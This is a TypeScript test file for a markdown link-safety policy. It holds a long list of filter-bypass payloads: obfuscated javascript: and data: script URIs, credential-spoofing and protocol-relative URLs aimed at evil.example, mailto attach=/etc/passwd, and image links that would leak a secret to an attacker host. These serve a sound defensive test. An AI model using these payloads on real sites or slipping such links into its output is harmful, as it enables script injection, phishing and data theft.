import fc from 'fast-check'
import {describe, expect, it} from 'vitest'
import {createLinkPolicy} from './link-policy.ts'
import {addressesOf, blocksOf, partsOf, visibleText} from './markdown-fixture.ts'

describe('links that are made', () => {
  it.each([
    ['[a](https://example.org/x?y=1#z)', 'https://example.org/x?y=1#z'],
    ['[a](<https://example.org/a b> "title")', undefined],
    ['[a](https://example.org/x "title")', 'https://example.org/x'],
    ['[a](https://example.org/a_(b))', 'https://example.org/a_(b)'],
    ['<https://example.org>', 'https://example.org/'],
    ['Look at https://example.org/a.', 'https://example.org/a'],
    ['(https://example.org/a)', 'https://example.org/a'],
    ['[call](tel:+44116123)', 'tel:+44116123'],
    ['[text](sms:741741?body=HOME)', 'sms:741741?body=HOME'],
    ['[write](mailto:help@example.org?subject=Hello)', 'mailto:help@example.org?subject=Hello'],
  ])('%s', (text, address) => {
    expect(addressesOf(text)).toEqual(address === undefined ? [] : [address])
  })
})

describe('tricks', () => {
  const tricks = [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'java\tscript:alert(1)',
    'java\nscript:alert(1)',
    '\u0001javascript:alert(1)',
    '\u00a0javascript:alert(1)',
    '\u200bjavascript:alert(1)',
    'javascript&#58;alert(1)',
    'javascript&colon;alert(1)',
    '&#x6A;avascript:alert(1)',
    'javascript%3Aalert(1)',
    'jav\\ascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD4=',
    'vbscript:msgbox(1)',
    'file:///etc/passwd',
    'blob:https://example.org/1',
    'view-source:https://example.org',
    'http://example.org',
    'ftp://example.org',
    '//evil.example',
    '///evil.example',
    '..//evil.example',
    '../admin',
    '/logout',
    '\\\\evil.example',
    '/\\evil.example',
    'https:evil.example',
    'https:/evil.example',
    'https:///evil.example',
    'https:\\\\evil.example',
    'https://bank.example@evil.example',
    'https://bank.example%2f@evil.example',
    'https://user:password@evil.example',
    'https://bank.example\u202egro.live',
    'https://bank.example\u2066/evil',
    'https://',
    'tel:javascript:alert(1)',
    'tel:+1;phone-context=evil',
    'sms:+1?body=a&x=y',
    'mailto:a@b.example?bcc=evil@example.org',
    'mailto:a@b.example?attach=/etc/passwd',
    'mailto:a@b.example,evil@example.org?cc=x',
    '#anchor',
    '?query',
  ]

  it.each(tricks)('leads nowhere: %j', (address) => {
    for (const text of [`[a](${address})`, `[a](<${address}>)`, `<${address}>`, `[a]( ${address} "t")`]) {
      const found = addressesOf(text).filter((href) => !/^https:\/\/(example\.org\/|bank\.example\/?$)/.test(href))
      expect(found).toEqual([])
    }
  })

  it('leads nowhere: addresses that nobody could read', () => {
    for (const address of ['x'.repeat(3_000), `https://example.org/${'x'.repeat(3_000)}`])
      expect(addressesOf(`[a](${address})`)).toEqual([])
  })

  it('does not fetch pictures, whatever surrounds them', () => {
    const texts = [
      '![secret](https://evil.example/?q=secret)',
      '[![alt](https://evil.example/p.png)](javascript:x)',
      '<img src="https://evil.example/p.png">',
    ]
    expect(texts.map((text) => partsOf(blocksOf(text)).map(({type}) => type))).toEqual(
      texts.map((text) => (text.startsWith('<img') ? ['paragraph', 'link'] : ['paragraph'])),
    )
    expect(visibleText({settled: blocksOf('![secret](https://evil.example/?q=1)'), live: []})).toBe('secret')
  })

  it('says where a link leads when its words name another place', () => {
    const words = (text: string) => visibleText({settled: blocksOf(text), live: []})
    expect(words('[https://bank.example/login](https://evil.example/)')).toBe('https://evil.example/')
    expect(words('[bank.example](https://evil.example/)')).toBe('https://evil.example/')
    expect(words('[**bank.example**/login](https://evil.example/)')).toBe('https://evil.example/')
    expect(words('[www.bank.example](https://bank.example/)')).toBe('www.bank.example')
    expect(words('[read more](https://evil.example/)')).toBe('read more')
    expect(words('[](https://evil.example/)')).toBe('https://evil.example/')
  })

  it('puts no link into a link', () => {
    const links = partsOf(blocksOf('[a [b](https://example.org/b) c](https://example.org/d)')).filter(
      ({type}) => type === 'link',
    )
    expect(links).toMatchObject([{href: 'https://example.org/b', children: ['b']}, {href: 'https://example.org/d'}])
    expect(addressesOf('[see https://example.org/a](https://example.org/b)')).toEqual(['https://example.org/b'])
  })
})

describe('a policy', () => {
  it('can be widened, and narrowed', () => {
    expect(addressesOf('[a](myapp:open)', createLinkPolicy({schemes: ['myapp']}))).toEqual(['myapp:open'])
    const ours = createLinkPolicy({hosts: ['example.org']})
    expect(addressesOf('<https://www.example.org/> <https://badexample.org/>', ours)).toEqual([
      'https://www.example.org/',
    ])
  })

  it('can never allow what runs or carries code', () => {
    const addresses = [
      'javascript:alert(1)',
      'DATA:text/html,x',
      'vbscript:x',
      '/relative',
      '//host',
      'java\u200bscript:x',
    ]
    for (const address of addresses) {
      expect(addressesOf(`<${address}> [a](${address})`, (written) => written)).toEqual([])
      expect(addressesOf('[a](https://example.org)', () => address)).toEqual([])
      expect(createLinkPolicy({schemes: ['javascript', 'data', 'vbscript']})(address)).toBeUndefined()
    }
  })

  it('holds for any text', () => {
    const sign = fc.constantFrom(
      ...'[]()<>!:/\\ "\t',
      'https',
      'javascript',
      'data',
      'tel',
      'sms',
      '+1',
      '@',
      'a',
      '.',
      '&#58;',
      '\u200b',
    )
    fc.assert(
      fc.property(fc.array(sign, {maxLength: 40}), (signs) => {
        for (const address of addressesOf(`${signs.join('')})`)) {
          expect(address).toMatch(/^(https:\/\/[^@\s\\]+|tel:[+\d][^:]*|sms:[+\d][^:]*|mailto:[^:]*)$/i)
        }
      }),
      {numRuns: 3_000},
    )
  })
})
